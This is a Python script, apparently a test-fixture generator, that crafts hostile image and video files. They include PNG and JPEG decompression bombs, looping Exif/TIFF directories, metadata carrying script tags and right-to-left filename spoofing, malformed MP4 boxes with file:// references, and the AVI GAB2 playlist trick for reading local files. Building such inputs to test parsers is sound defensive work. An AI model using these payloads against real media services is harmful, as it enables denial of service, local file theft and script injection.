#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""craft.py KIND OUT [FROM [ARG]]: make one hostile file, of nothing or by editing an honest one. KIND is a function below."""
import struct
import sys
import zlib


def read(path):
    with open(path, 'rb') as f:
        return f.read()


# ------------------------------------------------------------------------------------------------ PNG, GIF

def chunk(kind, body):
    return struct.pack('>I', len(body)) + kind + body + struct.pack('>I', zlib.crc32(kind + body))


def png(w, h, *more, rows=None):
    ihdr = chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, 8, 0, 0, 0, 0))
    rows = b''.join(b'\0' + b'\x80' * w for _ in range(h)) if rows is None else rows
    return b'\x89PNG\r\n\x1a\n' + ihdr + b''.join(more) + chunk(b'IDAT', zlib.compress(rows, 9)) + chunk(b'IEND', b'')


def png_huge(_):
    return png(65536, 65536, rows=b'\0' * 1000000)


def inflating(size):
    z = zlib.compressobj(9)
    parts = [z.compress(b'\0' * (1 << 20)) for _ in range(size >> 20)]
    return b''.join(parts) + z.flush()


def png_ztxt(_):
    return png(64, 64, *[chunk(b'zTXt', b'Comment\0\0' + inflating(200 << 20)) for _ in range(5)])


def png_iccp(_):
    return png(64, 64, chunk(b'iCCP', b'x\0\0' + inflating(500 << 20)))


def png_text(_):
    return png(64, 64, *[chunk(b'tEXt', b'k%d\0v' % i) for i in range(50000)])


def apng_frames(_):
    fctl = chunk(b'fcTL', struct.pack('>IIIIIHHBB', 0, 64, 64, 0, 0, 0, 1, 0, 0))
    return png(64, 64, chunk(b'acTL', struct.pack('>II', 0x7fffffff, 0)), fctl)


def gif_frames(_):
    frame = b'!\xf9\4\0\0\0\0\0' + b',\0\0\0\0\1\0\1\0\0' + b'\2\2D\1\0'
    return b'GIF89a' + struct.pack('<HHBBB', 4000, 4000, 0x80, 0, 0) + b'\0\0\0\xff\xff\xff' + frame * 100000 + b';'


# ------------------------------------------------------------------------------------------------ JPEG

def segments(jpeg):
    """Yield (marker, start, end) up to and with the first SOS header."""
    at = 2
    while at + 4 <= len(jpeg):
        n = struct.unpack('>H', jpeg[at + 2:at + 4])[0]
        yield jpeg[at + 1], at, at + 2 + n
        if jpeg[at + 1] == 0xda:
            return
        at += 2 + n


def jpeg_huge(src):
    j = bytearray(src)
    for marker, start, _ in segments(src):
        if marker in (0xc0, 0xc1, 0xc2):
            j[start + 5:start + 9] = struct.pack('>HH', 65500, 65500)
    return bytes(j)


def jpeg_scans(src):
    """The last scan of a progressive JPEG, two thousand times more."""
    end = src.rindex(b'\xff\xd9')
    last = src.rindex(b'\xff\xda', 0, end)
    return src[:end] + src[last:end] * 2000 + src[end:]


def with_app(src, marker, body):
    return src[:2] + b'\xff' + bytes([marker]) + struct.pack('>H', len(body) + 2) + body + src[2:]


def jpeg_apps(src):
    return src[:2] + (b'\xff\xe1\0\x10http://x/y/z\0\0') * 10000 + (b'\xff\xe2\xff\xff' + b'M' * 65533) * 200 + src[2:]


def jpeg_ifd_loop(src):
    """IFD0 that names itself as the next one, as its Exif IFD, and as its GPS IFD."""
    ifd = struct.pack('<H', 3) + struct.pack('<HHII', 0x112, 3, 1, 6) + struct.pack('<HHII', 0x8769, 4, 1, 8)
    ifd += struct.pack('<HHII', 0x8825, 4, 1, 8) + struct.pack('<I', 8)
    return with_app(src, 0xe1, b'Exif\0\0II*\0\x08\0\0\0' + ifd)


def jpeg_exif_lies(src):
    """Counts of four thousand million, offsets outside, and tags upon tags."""
    n = 3000
    ifd = struct.pack('<H', n) + b''.join(struct.pack('<HHII', 0x9000 + i % 999, 7, 0xffffffff - i, 0xfffffff0) for i in range(n))
    return with_app(src, 0xe1, b'Exif\0\0II*\0\x08\0\0\0' + ifd + b'\0\0\0\0')


def jpeg_xmp_words(src):
    """A title that is mark-up, control characters and the wrong way round; a description of the size of a segment."""
    evil = '&lt;script&gt;alert(1)&lt;/script&gt;\u202e\u2066gpj.exe'
    xmp = ('<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
           'xmlns:dc="http://purl.org/dc/elements/1.1/"><rdf:Description rdf:about=""><dc:title><rdf:Alt><rdf:li xml:lang="x-default">'
           + evil + '</rdf:li></rdf:Alt></dc:title><dc:description><rdf:Alt><rdf:li xml:lang="x-default">' + evil + 'x' * 60000
           + '</rdf:li></rdf:Alt></dc:description></rdf:Description></rdf:RDF></x:xmpmeta>').encode()
    j = with_app(src, 0xe1, b'http://ns.adobe.com/xap/1.0/\0' + xmp)
    text = b'<script>\x1b[31m\xff\xfe\x80 ' + b'y' * 60000 + b'\0'
    ifd = struct.pack('<H', 1) + struct.pack('<HHII', 0x10e, 2, len(text), 26) + b'\0\0\0\0'
    return with_app(j, 0xe1, b'Exif\0\0II*\0\x08\0\0\0' + ifd + text)


def xmp_end_missing(src):
    return with_app(src, 0xe1, b'http://ns.adobe.com/xap/1.0/\0' + b'<' * 65000)


# ------------------------------------------------------------------------------------------------ boxes (MP4, HEIF)

def boxes(data, start, end):
    at = start
    while at + 8 <= end:
        n = struct.unpack('>I', data[at:at + 4])[0]
        n = end - at if n == 0 else n
        if n < 8 or at + n > end:
            return
        yield data[at + 4:at + 8], at, at + n
        at += n


def edit(data, path, how, start=0, end=None, every=True):
    """Apply how(body) → new body (None: the box goes) to each box of that path; sizes above follow."""
    end = len(data) if end is None else end
    out, at = b'', start
    for kind, a, b in boxes(data, start, end):
        out += data[at:a]
        at = b
        if kind != path[0]:
            out += data[a:b]
            continue
        body = edit(data, path[1:], how, a + 8, b) if len(path) > 1 else how(data[a + 8:b])
        if body is not None:
            out += struct.pack('>I', len(body) + 8) + kind + body
    return out + data[at:end]


TRAK = [b'moov', b'trak']
STBL = TRAK + [b'mdia', b'minf', b'stbl']


def ispe_17000(src):
    meta = src.index(b'ispe')
    return src[:meta + 8] + struct.pack('>II', 17000, 17000) + src[meta + 16:]


def mov_dref_url(src, arg):
    url = ('file://' + arg).encode() + b'\0'
    entry = struct.pack('>I', len(url) + 12) + b'url ' + b'\0\0\0\0' + url
    return edit(src, TRAK + [b'mdia', b'minf', b'dinf', b'dref'], lambda b: b'\0\0\0\0\0\0\0\1' + entry)


def mov_dref_alias(src, arg):
    path = arg.encode()
    name = path.rsplit(b'/', 1)[1][:63]
    alias = b'\0' * 4 + struct.pack('>HH', 150 + 4 + len(path) + len(path) % 2, 2) + b'\0\0' + b'\1v'.ljust(28, b'\0') + b'\0' * 12
    alias += bytes([len(name)]) + name.ljust(63, b'\0') + b'\0' * 16 + struct.pack('>hh', 1, 1) + b'\0' * 16
    alias += struct.pack('>HH', 18, len(path)) + path + b'\0' * (len(path) % 2) + b'\xff\xff\0\0'
    entry = struct.pack('>I', len(alias) + 12) + b'alis' + b'\0\0\0\0' + alias
    return edit(src, TRAK + [b'mdia', b'minf', b'dinf', b'dref'], lambda b: b'\0\0\0\0\0\0\0\1' + entry)


def mov_tkhd(src):
    return edit(src, TRAK + [b'tkhd'], lambda b: b[:-8] + struct.pack('>II', 100000 << 16, 100000 << 16) if len(b) < 4 else
                b[:-8] + struct.pack('>II', 0x7fff0000, 0x7fff0000))


def mov_stsd_size(src):
    return edit(src, STBL + [b'stsd'], lambda b: b[:8 + 8 + 24] + struct.pack('>HH', 65535, 65535) + b[8 + 8 + 28:])


def mov_no_timescale(src):
    return edit(src, TRAK + [b'mdia', b'mdhd'], lambda b: b[:12] + b'\0\0\0\0' + b[16:])


def mov_frames(src):
    """A thousand million frames in the time table."""
    return edit(src, STBL + [b'stts'], lambda b: struct.pack('>III', 0, 1, 1000000000) + struct.pack('>I', 1))


def mov_no_time(src):
    return edit(src, STBL + [b'stts'], lambda b: struct.pack('>IIII', 0, 1, 0x7fffffff, 0))


def mov_chunks(src):
    return edit(src, STBL + [b'stco'], lambda b: struct.pack('>II', 0, 0x3fffffff) + b[8:])


def mov_offsets(src):
    return edit(src, STBL + [b'stco'], lambda b: b[:8] + b'\xff\xff\xff\xf0' * ((len(b) - 8) // 4))


def mov_elst(src):
    """Edit lists: of negative times, of no length, of no speed."""
    entry = struct.pack('>IiI', 0xffffffff, -2, 0) + struct.pack('>IiI', 0, -2147483648, 0x10000) + struct.pack('>IiI', 1, 2147483647, 0)
    return edit(src, TRAK + [b'edts', b'elst'], lambda b: struct.pack('>II', 0, 3) + entry)


def mov_elst_many(src):
    return edit(src, TRAK + [b'edts', b'elst'], lambda b: struct.pack('>II', 0, 100000) + struct.pack('>IiI', 1, 0, 0x10000) * 100000)


def mov_no_stsd(src):
    return edit(src, STBL + [b'stsd'], lambda b: None)


def mov_streams(src):
    trak = next(src[a:b] for kind, s, e in boxes(src, 0, len(src)) if kind == b'moov'
                for k, a, b in boxes(src, s + 8, e) if k == b'trak')
    return edit(src, [b'moov'], lambda b: b + trak * 1000)


def mov_long(src):
    """Thirty hours, says every header."""
    def mvhd(b):
        return b[:16] + struct.pack('>I', min(0xfffffffe, 30 * 3600 * struct.unpack('>I', b[12:16])[0])) + b[20:]
    return edit(edit(src, [b'moov', b'mvhd'], mvhd), TRAK + [b'mdia', b'mdhd'], mvhd)


def mov_mdat(src):
    at = src.index(b'mdat')
    return src[:at - 4] + struct.pack('>I', 0x7ffffff0) + src[at:]


def mov_deep(_):
    """Boxes in boxes in boxes."""
    body = b''
    for _ in range(20000):
        body = struct.pack('>I', len(body) + 8) + b'udta' + body
    return b'\0\0\0\x14ftypisom\0\0\2\0isom' + struct.pack('>I', len(body) + 8) + b'moov' + body


# ------------------------------------------------------------------------------------------------ AVI, TIFF

def riff(kind, body):
    return kind + struct.pack('<I', len(body)) + body + b'\0' * (len(body) % 2)


def avi_gab2(src, arg):
    """Pictures, and a subtitle that is a playlist behind an XBIN head: the attack of 2017."""
    url = 'file://' + arg
    text = ('XBIN\x1a\x20\0\x0f\0\x10\0' + '#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\n' + url + '\n#EXT-X-ENDLIST\n').encode('latin-1')
    plain = ('#EXTM3U\n#EXTINF:1.0,\n' + url + '\n#EXT-X-ENDLIST\n').encode()
    def gab2(t):
        return b'GAB2\0\2\0' + struct.pack('<I', 2) + b'x\0' + b'\4\0' + struct.pack('<I', len(t)) + t
    frames = 25
    avih = struct.pack('<14I', 40000, 0, 0, 0x10, frames, 0, 3, 0, 64, 48, 0, 0, 0, 0)
    def strh(t, h):
        return t + h + struct.pack('<10I', 0, 0, 0, 1, 25, 0, frames, 100000, 0xffffffff, 0) + struct.pack('<4H', 0, 0, 64, 48)
    bih = struct.pack('<IiiHH4sIiiII', 40, 64, 48, 1, 24, b'MJPG', 64 * 48 * 3, 0, 0, 0, 0)
    def strl(h, f):
        return riff(b'LIST', b'strl' + riff(b'strh', h) + riff(b'strf', f))
    hdrl = b'hdrl' + riff(b'avih', avih) + strl(strh(b'vids', b'MJPG'), bih) + strl(strh(b'txts', b'\0' * 4), b'') * 2
    movi = b'movi' + riff(b'01tx', gab2(text)) + riff(b'02tx', gab2(plain)) + riff(b'00dc', src) * frames
    return riff(b'RIFF', b'AVI ' + riff(b'LIST', hdrl) + riff(b'LIST', movi))


def tiff(*tags, rows=b'\x80' * 4096):
    """A grey 64×64 TIFF with these tags besides."""
    base = [(256, 3, 1, 64), (257, 3, 1, 64), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8), (278, 3, 1, 64), (279, 4, 1, len(rows))]
    mine = sorted({t[0]: t for t in base + list(tags)}.values())
    ifd = struct.pack('<H', len(mine)) + b''.join(struct.pack('<HHII', *t) for t in mine) + b'\0\0\0\0'
    return b'II*\0' + struct.pack('<I', 8 + len(rows)) + rows + ifd


def tiff_plain(_):
    return tiff()


def tiff_dng(_):
    return tiff((50706, 1, 4, 0x00000401), (254, 4, 1, 1))


def tiff_nef(_):
    return tiff((254, 4, 1, 1), (330, 4, 1, 8))


def tiff_cfa(_):
    return tiff((262, 3, 1, 32803))


def tiff_loop(_):
    return tiff()[:-4] + struct.pack('<I', 8 + 4096)


if __name__ == '__main__':
    kind, out, *rest = sys.argv[1:]
    made = globals()[kind](*([read(rest[0])] if rest else [b'']), *rest[1:])
    with open(out, 'wb') as f:
        f.write(made)
